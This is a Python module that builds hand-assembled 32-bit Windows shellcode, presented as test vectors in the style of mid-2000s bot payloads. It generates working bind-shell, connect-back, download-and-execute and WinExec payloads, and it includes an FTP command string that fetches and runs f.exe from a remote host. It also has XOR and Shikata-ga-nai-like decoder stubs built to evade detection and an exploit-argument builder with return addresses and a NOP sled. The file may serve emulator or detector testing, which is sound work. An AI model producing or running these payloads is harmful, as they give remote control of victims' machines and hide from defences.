"""Hand-assembled 32-bit shellcode test vectors (no assembler: every instruction is written as its
bytes with the instruction beside it; encodings from the Intel SDM vol. 2). They follow the shape
of 2004-2006 bot shellcode: PEB walk to kernel32, ROR-13 hash look-up of exports, strings pushed on
the stack or reached with call/pop, then the payload's calls. Encoders wrap a body in a decoder
stub the way the period's engines did.

Register conventions of the bodies: ebp = find_function, esi = kernel32 base, ebx = second DLL,
edi = socket or string.
"""

from __future__ import annotations

import struct


def ror13_hash(name: str) -> int:
    """The hash find_function compares: h = ror(h, 13) + c over the name's bytes."""
    h = 0
    for c in name.encode():
        h = ((h >> 13) | (h << 19)) & 0xFFFFFFFF
        h = (h + c) & 0xFFFFFFFF
    return h


# find_function: edx = module base, eax = ROR-13 hash of the name -> eax = function address.
FIND_FUNCTION = bytes.fromhex(
    "60"            # pushad
    "8b423c"        # mov eax, [edx+0x3c]          ; e_lfanew
    "8b440278"      # mov eax, [edx+eax+0x78]      ; export directory RVA
    "01d0"          # add eax, edx
    "50"            # push eax                     ; keep the export directory
    "8b4818"        # mov ecx, [eax+0x18]          ; NumberOfNames
    "8b5820"        # mov ebx, [eax+0x20]          ; AddressOfNames RVA
    "01d3"          # add ebx, edx
    # next_name:
    "49"            # dec ecx
    "8b348b"        # mov esi, [ebx+ecx*4]         ; name RVA
    "01d6"          # add esi, edx
    "31ed"          # xor ebp, ebp                 ; hash
    "31c0"          # xor eax, eax
    # hash_loop:
    "ac"            # lodsb
    "84c0"          # test al, al
    "7407"          # jz hash_done
    "c1cd0d"        # ror ebp, 13
    "01c5"          # add ebp, eax
    "ebf4"          # jmp hash_loop
    # hash_done:
    "3b6c2420"      # cmp ebp, [esp+0x20]          ; the wanted hash (pushad's eax slot)
    "75e4"          # jnz next_name
    "58"            # pop eax                      ; export directory
    "8b5824"        # mov ebx, [eax+0x24]          ; AddressOfNameOrdinals RVA
    "01d3"          # add ebx, edx
    "668b0c4b"      # mov cx, [ebx+ecx*2]          ; ordinal
    "8b581c"        # mov ebx, [eax+0x1c]          ; AddressOfFunctions RVA
    "01d3"          # add ebx, edx
    "8b048b"        # mov eax, [ebx+ecx*4]
    "01d0"          # add eax, edx
    "8944241c"      # mov [esp+0x1c], eax          ; returned through popad
    "61"            # popad
    "c3"            # ret
)

PROLOGUE = (
    b"\xfc"                                                  # cld
    + b"\xe8" + struct.pack("<i", len(FIND_FUNCTION))        # call after_ff (pushes &find_function)
    + FIND_FUNCTION
    + bytes.fromhex(
        "5d"        # pop ebp                      ; ebp = find_function
        "31c9"      # xor ecx, ecx
        "648b7130"  # mov esi, fs:[ecx+0x30]       ; PEB
        "8b760c"    # mov esi, [esi+0x0c]          ; PEB_LDR_DATA
        "8b761c"    # mov esi, [esi+0x1c]          ; InInitializationOrderModuleList (ntdll)
        "8b36"      # mov esi, [esi]               ; next: kernel32
        "8b5608"    # mov edx, [esi+0x08]          ; its DllBase
        "89d6"      # mov esi, edx                 ; esi = kernel32 from here on
    )
)


def resolve(name: str, in_kernel32: bool = True) -> bytes:
    """eax = address of ``name`` (kernel32 in esi, the other DLL in ebx)."""
    return (b"\x89\xf2" if in_kernel32 else b"\x89\xda") + b"\xb8" + struct.pack("<I", ror13_hash(name)) + b"\xff\xd5"
    #        mov edx, esi              mov edx, ebx        mov eax, hash                          call ebp


CALL_EAX = b"\xff\xd0"  # call eax


def push_string(s: str) -> bytes:
    """push imm32 instructions leaving ``s`` NUL-terminated at [esp]."""
    raw = s.encode() + b"\0"
    raw += b"\0" * (-len(raw) % 4)
    out = b""
    for i in range(len(raw) - 4, -1, -4):
        out += b"\x68" + raw[i:i + 4]  # push imm32
    return out


def call_over(s: str, reg_pop: int) -> bytes:
    """``call`` over the NUL-terminated string, then ``pop reg`` (0x58+r): reg = its address."""
    raw = s.encode() + b"\0"
    return b"\xe8" + struct.pack("<i", len(raw)) + raw + bytes([reg_pop])


POP_ECX, POP_EDX = 0x59, 0x5A


def load_library(name: str) -> bytes:
    """ebx = LoadLibraryA(name)."""
    return resolve("LoadLibraryA") + push_string(name) + b"\x54" + CALL_EAX + b"\x89\xc3"
    #                                                    push esp    call     mov ebx, eax


def exit_thread() -> bytes:
    return resolve("ExitThread") + b"\x6a\x00" + CALL_EAX  # push 0


def sockaddr(host: str, port: int) -> bytes:
    """push a sockaddr_in (first 8 bytes) and leave its address in ecx."""
    addr = bytes(int(x) for x in host.split("."))
    return (b"\x68" + addr                                   # push sin_addr
            + b"\x68" + struct.pack("<H", 2) + struct.pack(">H", port)  # push AF_INET, sin_port
            + b"\x89\xe1")                                   # mov ecx, esp


def bind_shell(port: int) -> bytes:
    """WSASocketA, bind(port), listen, accept, then ExitThread."""
    return (PROLOGUE + load_library("ws2_32")
            + resolve("WSASocketA", False) + b"\x6a\x00" * 4 + b"\x6a\x01\x6a\x02" + CALL_EAX  # (2, 1, 0, 0, 0, 0)
            + b"\x89\xc7"                                                                     # mov edi, eax
            + resolve("bind", False) + sockaddr("0.0.0.0", port)
            + b"\x6a\x10\x51\x57" + CALL_EAX                    # push 16; push ecx; push edi
            + resolve("listen", False) + b"\x6a\x01\x57" + CALL_EAX
            + resolve("accept", False) + b"\x6a\x00\x6a\x00\x57" + CALL_EAX
            + exit_thread())


def connect_back(host: str, port: int) -> bytes:
    """socket, connect(host:port), then ExitProcess."""
    return (PROLOGUE + load_library("ws2_32")
            + resolve("socket", False) + b"\x6a\x06\x6a\x01\x6a\x02" + CALL_EAX  # (2, 1, 6)
            + b"\x89\xc7"
            + resolve("connect", False) + sockaddr(host, port) + b"\x6a\x10\x51\x57" + CALL_EAX
            + resolve("ExitProcess") + b"\x6a\x00" + CALL_EAX)


def download_exec(url: str, local: str) -> bytes:
    """URLDownloadToFileA(0, url, local, 0, 0); WinExec(local, 1); ExitProcess(0)."""
    return (PROLOGUE + load_library("urlmon")
            + resolve("URLDownloadToFileA", False)
            + call_over(url, POP_ECX) + call_over(local, POP_EDX)
            + b"\x89\xd7"                                   # mov edi, edx
            + b"\x6a\x00\x6a\x00\x52\x51\x6a\x00" + CALL_EAX  # push 0; push 0; push edx; push ecx; push 0
            + resolve("WinExec") + b"\x6a\x01\x57" + CALL_EAX  # push 1; push edi
            + resolve("ExitProcess") + b"\x6a\x00" + CALL_EAX)


def win_exec(command: str) -> bytes:
    """WinExec(command, 0); ExitThread(0)."""
    return (PROLOGUE + resolve("WinExec") + call_over(command, POP_ECX)
            + b"\x6a\x00\x51" + CALL_EAX                     # push 0; push ecx
            + exit_thread())


ECHO_FTP = ("cmd /c echo open 10.0.0.5 2121 > o & echo user x y >> o & echo binary >> o & "
            "echo get f.exe >> o & echo bye >> o & ftp -n -s:o & f.exe")


# -- encoders ----------------------------------------------------------------------------------
def xor8_callpop(body: bytes, key: int) -> bytes:
    """call $+5 / pop GetPC, then xor byte [esi], key; inc esi; loop over the body."""
    enc = bytes(b ^ key for b in body)
    return (b"\xe8\x00\x00\x00\x00"                       # call $+5
            + b"\x5e"                                      # pop esi          ; esi = offset 5
            + b"\x83\xc6\x10"                              # add esi, 16      ; -> offset 21, the body
            + b"\x31\xc9"                                  # xor ecx, ecx
            + b"\x66\xb9" + struct.pack("<H", len(body))   # mov cx, len
            + b"\x80\x36" + bytes([key])                   # xor byte [esi], key
            + b"\x46"                                      # inc esi
            + b"\xe2\xfa"                                  # loop -6
            + enc)


def xor32_fnstenv(body: bytes, key: bytes) -> bytes:
    """fldz / fnstenv [esp-0xc] / pop ebx GetPC, then xor dword [ebx+0x17], key; add ebx, 4; loop."""
    body += b"\x90" * (-len(body) % 4)
    k = int.from_bytes(key, "little")
    enc = b"".join(struct.pack("<I", w ^ k) for (w,) in struct.iter_unpack("<I", body))
    return (b"\xd9\xee"                                    # fldz             ; FPU IP = offset 0
            + b"\xd9\x74\x24\xf4"                          # fnstenv [esp-0xc]
            + b"\x5b"                                      # pop ebx          ; ebx = offset 0
            + b"\x31\xc9"                                  # xor ecx, ecx
            + b"\xb1" + bytes([len(body) // 4])            # mov cl, dwords
            + b"\x81\x73\x17" + key                        # xor dword [ebx+0x17], key
            + b"\x83\xc3\x04"                              # add ebx, 4
            + b"\xe2\xf4"                                  # loop -12
            + enc)                                         # offset 23


def xor32_additive(body: bytes, key: int) -> bytes:
    """Shikata-ga-nai-like: the key grows by each decoded dword (xor [ebx+0x16], eax; add eax, [ebx+0x16])."""
    body += b"\x90" * (-len(body) % 4)
    enc = bytearray()
    k = key
    for (w,) in struct.iter_unpack("<I", body):
        enc += struct.pack("<I", w ^ k)
        k = (k + w) & 0xFFFFFFFF
    return (b"\xb8" + struct.pack("<I", key)              # mov eax, key
            + b"\xd9\xee"                                  # fldz             ; FPU IP = offset 5
            + b"\xd9\x74\x24\xf4"                          # fnstenv [esp-0xc]
            + b"\x5b"                                      # pop ebx          ; ebx = offset 5
            + b"\x31\xc9"                                  # xor ecx, ecx
            + b"\xb1" + bytes([len(body) // 4])            # mov cl, dwords
            + b"\x31\x43\x16"                              # xor [ebx+0x16], eax
            + b"\x03\x43\x16"                              # add eax, [ebx+0x16]
            + b"\x83\xc3\x04"                              # add ebx, 4
            + b"\xe2\xf5"                                  # loop -11
            + bytes(enc))                                  # offset 27


def exploit_argument(shellcode: bytes, sled: int = 64, filler: bytes = b"\\\x00A\x00") -> bytes:
    """An exploit argument's shape: protocol filler, return addresses, a NOP sled, the shellcode."""
    return filler * 40 + struct.pack("<I", 0x7C82385D) * 8 + b"\x90" * sled + shellcode + b"B" * 64


# -- hostile -----------------------------------------------------------------------------------
JMP_SELF = b"\xeb\xfe"                                     # jmp $
HUGE_LOOP = b"\xb9\xff\xff\xff\xff" + b"\xe2\xfe"         # mov ecx, -1; loop $
INT3 = b"\x90\x90\xcc"                                     # nop; nop; int3
BAD_READ = b"\x31\xc0" + b"\x8b\x00"                       # xor eax, eax; mov eax, [eax]
DIV_ZERO = b"\x31\xc9" + b"\xf7\xf1"                       # xor ecx, ecx; div ecx
SMC_LOOP = (b"\xe8\x00\x00\x00\x00"                         # call $+5
            + b"\x5e"                                       # pop esi
            + b"\x80\x36\x00"                               # xor byte [esi], 0   ; rewrites its own code
            + b"\xeb\xfb")                                  # jmp -5              ; forever
HUGE_ALLOC = (PROLOGUE + resolve("VirtualAlloc")
              + b"\x6a\x40\x68\x00\x10\x00\x00\x68\xff\xff\xff\x7f\x6a\x00" + CALL_EAX  # (0, 0x7fffffff, 0x1000, 0x40)
              + b"\xeb\xfe")
API_FLOOD = (PROLOGUE + resolve("Sleep") + b"\x89\xc7"    # mov edi, eax
             + b"\x6a\x00\xff\xd7"                          # push 0; call edi
             + b"\xeb\xfa")                                 # jmp -6 (to the push)
